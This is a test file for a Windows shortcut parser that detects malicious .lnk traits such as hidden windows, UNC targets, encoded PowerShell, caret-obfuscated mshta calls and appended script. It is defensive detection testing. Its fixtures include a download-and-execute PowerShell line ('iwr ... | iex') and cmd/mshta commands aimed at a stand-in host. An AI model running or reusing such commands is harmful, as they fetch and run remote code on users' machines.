import { describe, expect, test } from "bun:test";
import { readLnk } from "../../../../src/extract/shortcuts/lnk.ts";
import { bytes, hex, LIMITS, textOf, u16, u32, utf16 } from "../office/make.ts";

type Parts = {
  readonly items?: readonly Uint8Array[];
  readonly info?: Uint8Array;
  readonly name?: string;
  readonly path?: string;
  readonly arguments?: string;
  readonly icon?: string;
  readonly blocks?: readonly Uint8Array[];
  readonly show?: number;
  readonly after?: Uint8Array;
  readonly narrow?: boolean;
};

function lnk(parts: Parts): Buffer {
  const bits =
    (parts.items === undefined ? 0 : 1) |
    (parts.info === undefined ? 0 : 2) |
    (parts.name === undefined ? 0 : 4) |
    (parts.path === undefined ? 0 : 8) |
    (parts.arguments === undefined ? 0 : 0x20) |
    (parts.icon === undefined ? 0 : 0x40) |
    (parts.narrow === true ? 0 : 0x80);
  const header = bytes(u32(0x4c), hex("0114020000000000c000000000000046"), u32(bits), 52);
  header.writeUInt32LE(parts.show ?? 1, 0x3c);
  const list = bytes(...(parts.items ?? []).map((item) => bytes(u16(item.length + 2), item)), u16(0));
  const strings = [parts.name, parts.path, parts.arguments, parts.icon].filter((one) => one !== undefined);
  return bytes(
    header,
    ...(parts.items === undefined ? [] : [u16(list.length), list]),
    parts.info ?? "",
    ...strings.map((one) => bytes(u16(one.length), parts.narrow === true ? one : utf16(one))),
    ...(parts.blocks ?? []).map((block) => bytes(u32(block.length + 4), block)),
    u32(0),
    parts.after ?? "",
  );
}

const read = (parts: Parts) => readLnk(lnk(parts), LIMITS);
const shown = (parts: Parts): string => textOf(read(parts), "shortcut");

describe("a shortcut", () => {
  test("to a document is nothing special", () => {
    const reading = read({ path: "..\\report.docx", name: "Report", icon: "C:\\Office\\winword.exe" });
    expect(reading.facts).toEqual([]);
    expect(reading.flags).toEqual([]);
  });

  test("gives its command line", () => {
    const parts = { path: "..\\cmd.exe", arguments: "/c start http://a.example/x", icon: "x.pdf", show: 7 };
    expect(shown(parts)).toStartWith("..\\cmd.exe /c start http://a.example/x\n");
    expect(read(parts).facts).toEqual(["hidden_window", "runs_command", "misleading_icon"]);
    expect(shown({ ...parts, narrow: true })).toStartWith("..\\cmd.exe /c start http://a.example/x\n");
  });

  test("may hide its target in the list of items", () => {
    const drive = bytes("\x2fC:\\", 20);
    const long = bytes(
      u16(0x30),
      u16(9),
      hex("0400efbe"),
      8,
      u16(0x2e),
      24,
      4,
      utf16("mshta.exe\0"),
      u16(0x18),
    );
    const file = bytes("\x32\0", 10, "MSHTA~1.EXE\0", long);
    expect(shown({ items: [hex("1f50"), drive, file] })).toBe("C:\\mshta.exe");
    const uri = bytes("\x61\x80\0\0", utf16("https://a.example/x\0"));
    const reading = read({ items: [uri] });
    expect(reading.facts).toEqual(["url_target"]);
    expect(textOf(reading, "shortcut")).toContain("https://a.example/x");
  });

  test("may lead to another machine", () => {
    const share = bytes(u32(40), u32(0), u32(20), u32(0), u32(0), "\\\\a.example\\s\0", 4);
    const info = bytes(
      u32(28 + share.length + 6),
      u32(28),
      u32(2),
      u32(0),
      u32(0),
      u32(28),
      u32(28 + share.length),
      share,
      "x.exe\0",
    );
    const reading = read({ info });
    expect(textOf(reading, "shortcut")).toBe("\\\\a.example\\s\\x.exe");
    expect(reading.facts).toEqual(["unc_target"]);
    expect(read({ icon: "\\\\a.example\\i.ico" }).facts).toEqual(["unc_target"]);
  });

  test("may name its target in the environment only", () => {
    const block = bytes(u32(0xa0000001), "%windir%\\system32\\x.exe", 237, utf16("%ComSpec%"), 502);
    expect(read({ blocks: [block] }).facts).toEqual(["runs_command"]);
  });

  test("decodes what PowerShell is given in base64", () => {
    const encoded = utf16("iwr http://a.example/x | iex").toString("base64");
    const parts = { path: "powershell.exe", arguments: `-w hidden -enc ${encoded}` };
    expect(shown(parts)).toContain("iwr http://a.example/x");
    expect(read(parts).facts).toEqual(["runs_command", "encoded_command"]);
  });

  test("puts split words together", () => {
    expect(shown({ path: "cmd.exe", arguments: "/c m^sh^ta ht''tp://a.example/" })).toContain(
      "mshta http://a.example/",
    );
  });

  test("may push its arguments out of sight", () => {
    const reading = read({ path: "cmd.exe", arguments: `${" ".repeat(300)}/c calc` });
    expect(reading.facts).toEqual(["runs_command", "long_arguments", "padded_arguments"]);
  });

  test("gives what follows after its end", () => {
    const after = bytes("<script>alert(1)</script>");
    const reading = read({ path: "x", after });
    expect(reading.inner).toEqual([{ name: null, declared: null, bytes: after }]);
    expect(reading.facts).toEqual(["appended_data"]);
    expect(read({ path: "x", after: bytes(100) }).inner).toEqual([]);
  });

  test("that is cut short is flagged", () => {
    expect(readLnk(bytes("L\0\0\0"), LIMITS).flags).toEqual(["shortcut_unreadable"]);
    const whole = lnk({ path: "abc", arguments: "def" });
    expect(readLnk(whole.subarray(0, 84), LIMITS).flags).toEqual(["shortcut_unreadable"]);
  });
});
